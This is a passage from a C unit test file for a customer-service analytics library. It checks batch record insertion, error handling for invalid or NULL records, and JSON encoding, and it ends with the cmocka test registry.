        records[i].closed = c->closed;
        records[i].reopen_count = c->reopens;
        records[i].customer = c->customer;
        records[i].root_cause = c->cause;
        records[i].severity = (svcr_insight_severity)c->severity;
        records[i].has_satisfaction = c->satisfaction >= 0;
        records[i].satisfaction = c->satisfaction >= 0 ? c->satisfaction : 0;
        records[i].solicited = (svcr_insight_flag)c->solicited;
        size_t count = 0;
        if (c->first_response_met != U)
            timers[i][count++] = (svcr_insight_timer){sizeof(svcr_insight_timer), "first_response", (svcr_insight_flag)c->first_response_met};
        if (c->resolution_met != U)
            timers[i][count++] = (svcr_insight_timer){sizeof(svcr_insight_timer), "resolution", (svcr_insight_flag)c->resolution_met};
        for (size_t k = 0; k < count; k++)
            timer_list[i][k] = &timers[i][k];
        records[i].timers = count ? timer_list[i] : NULL;
        records[i].timer_count = count;
        list[i] = &records[i];
    }
    size_t added = 99;
    assert_int_equal(svcr_insight_add_many(many, list, 10, &added), SVCR_OK);
    assert_int_equal(added, 10);
    for (size_t i = 0; i < 4; i++)
        assert_int_equal(svcr_insight_add_baseline(many, sample_baseline[i]), SVCR_OK);
    assert_int_equal(set_sample_owners(many), SVCR_OK);
    char *a, *b;
    assert_int_equal(svcr_insight_encode(one, &a), SVCR_OK);
    assert_int_equal(svcr_insight_encode(many, &b), SVCR_OK);
    assert_string_equal(a, b);
    svcr_free(a);
    svcr_free(b);

    /* a bad record stops the feed there: the ones before it stay counted */
    records[3].first_response_seconds = -5;
    assert_int_equal(svcr_insight_add_many(many, list, 10, &added), SVCR_EINVAL);
    assert_int_equal(added, 3);
    assert_int_equal(svcr_insight_case_count(many), 13);
    assert_int_equal(svcr_insight_add_many(many, list, 3, NULL), SVCR_OK);
    assert_int_equal(svcr_insight_add_many(many, NULL, 0, &added), SVCR_OK);
    assert_int_equal(added, 0);
    assert_int_equal(svcr_insight_add_many(many, NULL, 1, &added), SVCR_EINVAL);
    assert_int_equal(svcr_insight_add_many(NULL, list, 1, &added), SVCR_EINVAL);
    assert_int_equal(svcr_insight_case_count(many), 16);
    const svcr_insight_record *with_a_hole[] = {&records[0], NULL};
    assert_int_equal(svcr_insight_add_many(many, with_a_hole, 2, &added), SVCR_EINVAL);
    assert_non_null(strstr(svcr_error_message(), "records[1] is NULL"));
    assert_int_equal(added, 1);
    svcr_insight_free(one);
    svcr_insight_free(many);
}


int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(counts_by_state_and_outcome),
        cmocka_unit_test(times_and_percentiles),
        cmocka_unit_test(percentiles_keep_their_error_bound),
        cmocka_unit_test(rates),
        cmocka_unit_test(root_cause_pareto),
        cmocka_unit_test(recovery_paradox),
        cmocka_unit_test(expected_retention),
        cmocka_unit_test(quick_resolution_includes_its_end),
        cmocka_unit_test(json_has_every_section),
        cmocka_unit_test(csv_tables),
        cmocka_unit_test(csv_neutralises_formulas),
        cmocka_unit_test(bad_records_change_nothing),
        cmocka_unit_test(add_many_equals_add),
        cmocka_unit_test(options_are_checked),
        cmocka_unit_test(insight_survives_every_allocation_failure),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
